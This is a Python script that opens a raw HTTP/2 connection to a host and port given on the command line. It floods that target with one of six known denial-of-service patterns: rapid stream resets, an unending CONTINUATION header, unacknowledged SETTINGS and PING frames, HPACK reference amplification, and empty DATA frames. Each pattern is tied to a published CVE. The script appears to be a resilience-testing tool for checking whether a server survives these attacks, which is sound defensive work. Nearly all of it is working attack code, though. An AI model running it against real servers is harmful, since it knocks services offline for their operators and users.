"""What a hostile HTTP/2 client sends: h2_flood.py KIND HOST PORT COUNT.

    resets         COUNT requests, each cancelled at once (CVE-2023-44487)
    continuation   one head in COUNT CONTINUATION frames of 16 KiB, without an end (CVE-2024-27316)
    settings       COUNT SETTINGS frames whose acknowledgements are not read (CVE-2019-9515)
    pings          COUNT PING frames whose answers are not read (CVE-2019-9512)
    hpack          one head of COUNT references to a field of 4,000 bytes
    empty          COUNT DATA frames without a byte on one stream (CVE-2019-9518)

Stops when the other side ends the connection or takes nothing for 3 s. Prints a JSON object: how
many frames it could write, and how the connection ended.
"""

import json
import socket
import sys

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

kind, host, port, count = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
encoder = Encoder()
BATCH = 100


def head(fields=()):
    pseudo = [(":method", "POST"), (":scheme", "http"), (":path", f"/echo?id=flood-{kind}")]
    return encoder.encode(pseudo + [(":authority", f"{host}:{port}"), *fields])


def frames():
    if kind == "resets":
        for i in range(count):
            yield HeadersFrame(2 * i + 1, head(), flags=["END_HEADERS", "END_STREAM"]).serialize() + RstStreamFrame(
                2 * i + 1, error_code=8
            ).serialize()
    elif kind == "continuation":
        yield HeadersFrame(1, head(), flags=["END_STREAM"]).serialize()
        # A literal field without indexing: name x, and a value of 16,000 bytes.
        field = Encoder().encode([(b"x", b"y" * 16000)], huffman=False)
        for _ in range(count):
            yield ContinuationFrame(1, field).serialize()
    elif kind == "settings":
        for _ in range(count):
            yield SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535}).serialize()
    elif kind == "pings":
        for _ in range(count):
            yield PingFrame(0, b"12345678").serialize()
    elif kind == "hpack":
        block = head([("big", "v" * 4000)])
        # The field just added is index 62, the first of the dynamic table (RFC 7541, 2.3.3).
        block += b"\xbe" * count
        parts = [block[at : at + 16384] for at in range(0, len(block), 16384)]
        yield HeadersFrame(1, parts[0], flags=["END_STREAM"]).serialize()
        for part in parts[1:-1]:
            yield ContinuationFrame(1, part).serialize()
        yield ContinuationFrame(1, parts[-1], flags=["END_HEADERS"]).serialize()
    elif kind == "empty":
        yield HeadersFrame(1, head(), flags=["END_HEADERS"]).serialize()
        for _ in range(count):
            yield DataFrame(1, b"").serialize()


def ending(stream):
    """How it ended: a GOAWAY's code, what the socket says, or still open."""
    data, code = b"", None
    try:
        while piece := stream.recv(65536):
            data += piece
            while len(data) >= 9:
                frame, length = Frame.parse_frame_header(memoryview(data)[:9])
                if len(data) < 9 + length:
                    break
                if isinstance(frame, GoAwayFrame):
                    frame.parse_body(memoryview(data)[9 : 9 + length])
                    code = frame.error_code
                data = data[9 + length :]
        return {"goaway": code, "end": "closed"}
    except TimeoutError:
        return {"goaway": code, "end": "open"}
    except ConnectionError as error:
        return {"goaway": code, "end": type(error).__name__}


with socket.create_connection((host, int(port)), timeout=3) as stream:
    stream.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame(0).serialize())
    written, batch, stopped = 0, [], None
    try:
        for frame in frames():
            batch.append(frame)
            if len(batch) == BATCH:
                stream.sendall(b"".join(batch))
                written += len(batch)
                batch = []
        stream.sendall(b"".join(batch))
        written += len(batch)
    except (TimeoutError, ConnectionError) as error:
        stopped = type(error).__name__
    stream.settimeout(1)
    print(json.dumps({"written": written, "stopped": stopped, **ending(stream)}))
